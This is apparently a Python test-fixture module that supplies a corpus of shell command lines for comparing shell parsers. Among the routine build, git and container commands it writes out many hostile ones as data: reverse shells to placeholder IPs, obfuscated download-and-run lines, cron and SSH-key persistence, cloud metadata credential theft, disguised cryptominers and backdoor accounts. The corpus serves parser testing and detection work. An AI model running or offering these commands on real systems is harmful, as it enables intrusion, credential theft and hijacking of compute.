"""A few hundred real-world-style command lines for measuring shell parsers.

Written from public knowledge of what developers, operators and coding agents type (build and
test runs, git, package managers, text pipelines, containers, cloud CLIs, network tools, and the
disguises from the issue). Nothing here comes from ../shared/eval/. Used by
scripts/compare_shell_parsers.py and by tests/test_events.py (every line must yield a result
without raising).
"""
from __future__ import annotations

__all__ = ["commands"]

_BASE = r"""
ls -la
cd /repo && git status
git log --oneline -n 20 --graph --decorate
git diff HEAD~1 -- src/utils/dates.py | head -100
git commit -m "fix: handle DST in parse_date" -- src/utils/dates.py
git checkout -b feature/retry-logic origin/main
git config --global alias.st 'status -sb'
python -m pytest -q tests/test_dates.py -k "not slow" --maxfail=1
pytest -x -vv tests/ 2>&1 | tail -n 50
pip install -e ".[dev]" && pip freeze > requirements.lock
pip install 'requests>=2.31' "numpy<2"
npm ci && npm run build -- --mode production
yarn test --watchAll=false
cargo build --release 2>&1 | grep -E '^(error|warning)'
go test ./... -run 'TestParse.*' -count=1
make -j"$(nproc)" all
cmake -S . -B build -DCMAKE_BUILD_TYPE=Release && cmake --build build -j 4
find . -name '*.pyc' -delete
find . -type f -name "*.py" -exec grep -l "import requests" {} \;
find /var/log -mtime +7 -name '*.gz' -print0 | xargs -0 rm -f
grep -rn "TODO" --include='*.py' src/ | wc -l
rg -n 'def parse_\w+' src
sed -i 's/old_name/new_name/g' src/*.py
sed -n '10,40p' src/app.py
awk -F, '{ sum += $3 } END { print sum / NR }' data/metrics.csv
awk '/ERROR/ {print $1, $2}' logs/app.log | sort | uniq -c | sort -rn | head
cat requirements.txt | grep -v '^#' | sort -u
head -c 200 /dev/urandom | base64
tar -czf backup-$(date +%F).tar.gz ./data
tar xzf release.tar.gz -C /opt/app --strip-components=1
unzip -o dataset.zip -d data/ && rm dataset.zip
curl -sSL https://example.com/install.sh -o install.sh && bash install.sh
curl -fsSL https://get.docker.com | sh
curl -X POST -H 'Content-Type: application/json' -d '{"name": "test"}' http://localhost:8000/api/items
wget -q -O - https://example.org/data.csv | head
wget https://github.com/org/tool/releases/download/v1.2.3/tool-linux-amd64.tar.gz
docker build -t myapp:latest . && docker run --rm -p 8080:80 myapp:latest
docker compose up -d --build
docker exec -it web bash -c 'cd /app && ./manage.py migrate'
docker run --rm -v "$PWD":/work -w /work python:3.11 python -m pytest
kubectl get pods -n default -o wide
kubectl logs deploy/api --tail=100 -f
kubectl apply -f k8s/deployment.yaml
kubectl run debug --rm -it --image=busybox -- sh
kubectl exec -it api-7d9f8c-xk2 -- /bin/sh -c "env | grep DB_"
helm upgrade --install api ./chart -f values.yaml --set image.tag=1.4.2
aws s3 ls s3://my-bucket/prefix/ --recursive | head
aws s3 cp ./build s3://my-bucket/site/ --recursive --acl public-read
aws ec2 describe-instances --filters "Name=tag:Env,Values=dev" --query 'Reservations[].Instances[].InstanceId'
aws ec2 run-instances --image-id ami-0abcdef1234567890 --instance-type p3.8xlarge --count 4 --key-name mykey
aws iam create-access-key --user-name deploy
gcloud compute instances create gpu-box --zone us-central1-a --machine-type a2-highgpu-8g --accelerator type=nvidia-tesla-a100,count=8
gcloud auth list
az vm create -g rg1 -n vm1 --image Ubuntu2204 --size Standard_NC24ads_A100_v4
az account show
terraform init && terraform plan -out tfplan
ssh -i ~/.ssh/id_ed25519 ubuntu@10.0.0.12 'uptime'
ssh -N -R 2222:localhost:22 user@203.0.113.5
ssh -fN -L 5432:db.internal:5432 bastion
ssh -D 1080 -q -C -N jump@198.51.100.7
ssh -o StrictHostKeyChecking=no -p 2200 root@192.0.2.10
scp -P 2222 build.tar.gz deploy@192.0.2.44:/opt/releases/
rsync -avz --delete ./site/ www@web01:/var/www/site/
nc -zv 10.0.0.5 20-1024
nc -lvnp 4444
nc 203.0.113.9 4444 -e /bin/bash
ncat --ssl 198.51.100.3 443
socat TCP4-LISTEN:8080,fork TCP4:10.0.0.8:80
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.7:9001
bash -i >& /dev/tcp/203.0.113.7/9001 0>&1
exec 5<>/dev/tcp/10.0.0.1/22; cat <&5
for p in 22 80 443 8080; do (echo > /dev/tcp/10.0.0.1/$p) 2>/dev/null && echo "open $p"; done
for i in $(seq 1 254); do ping -c1 -W1 10.0.0.$i | grep 'bytes from' & done; wait
nmap -sS -p- -T4 10.0.0.0/24
nmap -sV --top-ports 100 192.168.1.1
masscan 10.0.0.0/8 -p80,443 --rate 10000
curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/
curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
curl http://2852039166/latest/meta-data/
curl http://0xa9fea9fe/latest/user-data
curl "http://[::ffff:169.254.169.254]/latest/meta-data/"
ngrok http 8000
./frpc -c frpc.ini
chisel client 203.0.113.20:8000 R:socks
cloudflared tunnel --url http://localhost:8080
./xmrig -o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ -p x --donate-level=1
nohup ./xmrig -c config.json > /dev/null 2>&1 &
setsid ./kworker -o pool.minexmr.example:4444 &
timeout 60 ./cpuminer -a sha256d -o stratum+tcp://pool.example:3333
echo "*/5 * * * * curl -s http://203.0.113.5/x.sh | sh" | crontab -
(crontab -l 2>/dev/null; echo "@reboot /tmp/.x/run") | crontab -
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG attacker@host' >> ~/.ssh/authorized_keys
echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc
echo "nohup /tmp/.cache/agent &" >> ~/.profile
systemctl enable --now miner.service
systemctl --user daemon-reload && systemctl --user restart app
systemd-run --user --unit=backup /usr/bin/rsync -a /data /backup
sudo systemctl stop firewalld && sudo systemctl disable firewalld
sudo ufw disable
sudo iptables -F
sudo -u postgres psql -c 'select 1'
sudo su -
chmod u+s /usr/bin/find
chmod 4755 /tmp/bash
setcap cap_net_raw+ep /usr/bin/python3.11
useradd -m -s /bin/bash -G sudo backdoor
usermod -aG docker "$USER"
echo 'agent ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/agent
cat ~/.aws/credentials
find / -name "id_rsa*" 2>/dev/null
find / -name '*.pem' -o -name '*.key' 2>/dev/null | head
env | grep -i -E 'token|secret|key'
cat /var/run/secrets/kubernetes.io/serviceaccount/token
history -c && rm -f ~/.bash_history
export HISTFILE=/dev/null
echo "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUveC5zaCB8IHNo" | base64 -d | bash
eval "$(echo 'bmMgLWUgL2Jpbi9zaCAyMDMuMC4xMTMuNSA0NDQ0' | base64 --decode)"
a=xmr; b=ig; ./$a$b --version
c=nc; $c -e /bin/sh 203.0.113.5 4444
cat${IFS}/etc/passwd
{nm,ap} -sT 10.0.0.1
bash -c "$(curl -fsSL https://raw.example.com/setup.sh)"
python3 -c 'import pty; pty.spawn("/bin/bash")'
python3 -c "import socket,os;s=socket.socket();s.connect(('203.0.113.5',4444));os.dup2(s.fileno(),0)"
perl -e 'use Socket;$i="203.0.113.5";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
php -r '$sock=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
ruby -rsocket -e 'f=TCPSocket.open("203.0.113.5",4444).to_i'
echo $'\x63\x75\x72\x6c' http://example.com
printf '%s\n' "line one" "line two" > notes.txt
cat > config.yaml <<'EOF'
server:
  port: 8080
EOF
cat <<EOF > docs/tunnels.md
Use ssh -R 8080:localhost:80 user@host to expose a port.
EOF
tee -a logs/run.log <<< "started at $(date)"
arr=(xmr ig); "${arr[0]}${arr[1]}" -o pool:3333
declare -a hosts=(10.0.0.1 10.0.0.2); for h in "${hosts[@]}"; do ssh "$h" hostname; done
while read -r line; do echo "$line"; done < input.txt
if [ -f .env ]; then set -a; . ./.env; set +a; fi
[[ -d build ]] || mkdir -p build
case "$1" in start) ./run.sh ;; stop) pkill -f run.sh ;; *) echo usage ;; esac
function cleanup { rm -rf "$TMPDIR"; }; trap cleanup EXIT
diff <(sort a.txt) <(sort b.txt)
exec > >(tee -a build.log) 2>&1
VAR=${VAR:-default}; echo ${VAR^^} ${#VAR} ${VAR%%.*}
echo $((3 * (4 + 5)))
x=$(( x + 1 ))
ls -1 | while IFS= read -r f; do mv "$f" "${f// /_}"; done
jq -r '.items[] | select(.status == "failed") | .id' results.json
yq e '.spec.replicas = 3' -i deploy.yaml
openssl req -x509 -newkey rsa:4096 -keyout key.pem -out cert.pem -days 365 -nodes -subj '/CN=localhost'
ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''
gpg --batch --yes --passphrase-file pw.txt -c secrets.tar
du -sh * | sort -h | tail
df -h / && free -m && uptime
ps aux --sort=-%cpu | head -n 15
top -b -n 1 | head -20
nvidia-smi --query-gpu=utilization.gpu,memory.used --format=csv
lsof -i :8080
ss -tlnp
netstat -anp | grep LISTEN
ip route show && ip addr
dig +short example.com @1.1.1.1
host -t mx example.com
ping -c 3 8.8.8.8
traceroute -n 1.1.1.1
mkdir -p /tmp/.x && cd /tmp/.x && wget -q http://203.0.113.5/k && chmod +x k && ./k
cp /usr/bin/nc /tmp/.cache/kworker && /tmp/.cache/kworker 203.0.113.5 53 -e /bin/sh
mv xmrig .systemd-helper; ./.systemd-helper -B
watch -n 5 'kubectl get pods'
screen -dmS miner ./xmrig -o pool.example:3333
tmux new-session -d -s work 'python3 train.py --epochs 10'
xargs -a hosts.txt -I{} ssh {} uptime
echo 10.0.0.{1..20} | xargs -n1 ping -c1
env -i PATH=/usr/bin HOME=/tmp /usr/bin/python3 script.py
nice -n 19 ionice -c3 ./build.sh
stdbuf -oL ./long_job.sh | tee out.log
busybox nc 203.0.113.5 4444 -e sh
command -v docker >/dev/null 2>&1 || echo "docker missing"
time ./bench --iterations 1000
git clone https://github.com/example/project.git && cd project && ./configure && make
source venv/bin/activate && python manage.py runserver 0.0.0.0:8000
export DATABASE_URL="postgres://app:secret@db:5432/app"
DEBUG=1 LOG_LEVEL=debug ./server --port 9000
echo "done" # ssh -R 9000:localhost:22 evil@203.0.113.5
: 'nc -e /bin/sh 203.0.113.5 4444'
echo "to open a tunnel run: ssh -R 80:localhost:8080 serveo.net"
grep -n "xmrig" docs/*.md
"""


def commands() -> list[str]:
    """The corpus: hand-written lines plus wrapped and composed variants of them."""
    base = [c for c in _split(_BASE) if c.strip()]
    out = list(base)
    simple = [c for c in base if "\n" not in c and "'" not in c
              and not c.startswith(("for ", "while ", "if ", "case ", "[[", "{", "("))][:60]
    for i, c in enumerate(simple):
        variant = (
            f"sudo {c}",
            f"nohup {c} &",
            f"bash -c '{c}'",
            f"timeout 30 {c} || true",
            f"( {c} ) 2>&1 | tee -a out.log",
        )[i % 5]
        out.append(variant)
    for i in range(0, len(simple) - 1, 2):
        out.append(f"{simple[i]} && {simple[i + 1]}")
    for c in simple[:40]:
        out.append(f'eval "{c}"' if '"' not in c else f"eval '{c}'")
    return out


def _split(block: str) -> list[str]:
    """One command per line, except that a heredoc keeps its body and terminator."""
    lines = block.strip("\n").split("\n")
    out: list[str] = []
    i = 0
    while i < len(lines):
        line = lines[i]
        i += 1
        marker = _heredoc_marker(line)
        if marker:
            body = [line]
            while i < len(lines):
                body.append(lines[i])
                i += 1
                if body[-1].strip() == marker:
                    break
            out.append("\n".join(body) + "\n")
        else:
            out.append(line)
    return out


def _heredoc_marker(line: str) -> str | None:
    at = line.find("<<")
    if at < 0 or line[at:at + 3] == "<<<":
        return None
    rest = line[at + 2:].lstrip("-").strip()
    word = rest.split()[0] if rest.split() else ""
    return word.strip("'\"") or None
